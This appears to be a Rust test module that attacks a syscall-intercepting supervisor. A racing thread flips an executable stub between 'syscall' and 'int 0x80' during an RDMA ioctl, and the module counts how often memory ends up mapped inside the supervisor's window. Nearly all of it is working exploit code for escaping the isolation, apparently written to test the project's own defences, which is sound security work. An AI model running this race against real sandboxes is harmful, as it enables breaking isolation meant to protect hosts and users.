//! An attack: the system call instruction changes while the supervisor makes calls with that
//! instruction.
//!
//! Planting makes the guest's own thread, and then the new thread, execute the instruction that
//! made the request. That instruction is in the guest's memory: a racing thread can put the 32-bit
//! entry in the instruction's place, by which the same numbers are other calls, with arguments from
//! other registers.

use std::error::Error;

#[cfg(target_arch = "x86_64")]
pub(super) fn instruction(device: &str) -> Result<(), Box<dyn Error>> {
    let mut ends = std::collections::BTreeMap::<String, u32>::new();
    for turn in 0..400 {
        let child = crate::kernel::fork(|| native::attempt(device, turn).unwrap_or(1))?;
        *ends.entry(format!("{:?}", child.wait()?)).or_default() += 1;
    }
    eprintln!("{ends:?}");
    let of = |end: &str| ends.get(end).copied().unwrap_or(0);
    println!("captured: {}", of("Code(3)"));
    println!("went on: {}", of("Code(0)") > 0);
    println!("failed: {}", of("Code(1)"));
    Ok(())
}

/// Only x86-64 has two entries of the same length.
#[cfg(not(target_arch = "x86_64"))]
pub(super) fn instruction(_: &str) -> Result<(), Box<dyn Error>> {
    println!("captured: 0\nwent on: true\nfailed: 0");
    Ok(())
}

#[cfg(target_arch = "x86_64")]
mod native {
    use std::error::Error;
    use std::os::fd::AsRawFd;
    use std::sync::atomic::AtomicBool;
    use std::sync::atomic::Ordering;

    use crate::kernel::addr;
    use crate::kernel::call;
    use crate::kernel::dup2;
    use crate::kernel::int;
    use crate::kernel::mappings;
    use crate::kernel::mmap;
    use crate::kernel::poke;
    use crate::raw;
    use crate::raw::RDMA_VERBS_IOCTL;

    /// `mov eax, 16; syscall; ret`, and the same with `int 0x80`, as a word each.
    const SYSCALL: u64 = u64::from_le_bytes([0xb8, 16, 0, 0, 0, 0x0f, 0x05, 0xc3]);
    const INT80: u64 = u64::from_le_bytes([0xb8, 16, 0, 0, 0, 0xcd, 0x80, 0xc3]);

    /// One race: 3 when the stub's memory came to be the guest's own.
    pub(super) fn attempt(device: &str, turn: u32) -> Result<i32, Box<dyn Error>> {
        let file = raw::open(device)?;
        // What would be mapped, if the descriptors were not replaced.
        let own = c"own";
        let memfd = call(libc::SYS_memfd_create, &[own.as_ptr() as u64, 0])?;
        call(libc::SYS_ftruncate, &[memfd, 1 << 20])?;
        for at in 3..12 {
            if at != file.as_raw_fd() {
                dup2(i32::try_from(memfd)?, at)?;
            }
        }
        let rwx = libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC;
        let page = mmap(0, 4096, rwx, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1)?;
        poke(page, SYSCALL);
        let place = std::ptr::with_exposed_provenance::<()>(usize::try_from(page)?);
        // SAFETY: the page holds a function of that signature, in either of its forms.
        let ioctl: extern "C" fn(i64, u64, u64) -> i64 = unsafe { std::mem::transmute(place) };
        let done = AtomicBool::new(false);
        std::thread::scope(|scope| {
            scope.spawn(|| {
                let spin = |count: u32| (0..count).for_each(|_| std::hint::spin_loop());
                while !done.load(Ordering::Relaxed) {
                    poke(page, INT80);
                    spin(turn % 20 * 100);
                    poke(page, SYSCALL);
                    spin(turn / 20 * 100);
                }
            });
            let mut out = [0; 2];
            let good = raw::query_context(&mut out);
            let fd = i64::from(file.as_raw_fd());
            for _ in 0..50 {
                let ended = ioctl(fd, RDMA_VERBS_IOCTL, addr(good.words.as_slice()));
                if ended == -i64::from(libc::ENOTTY) {
                    break;
                }
            }
            done.store(true, Ordering::Relaxed);
        });
        let window = super::super::memory::window_base();
        let captured = mappings("memfd:own").iter().any(|m| m.start >> 32 == window >> 32);
        call(libc::SYS_close, &[int(file.as_raw_fd())])?;
        std::mem::forget(file);
        Ok(if captured { 3 } else { 0 })
    }
}
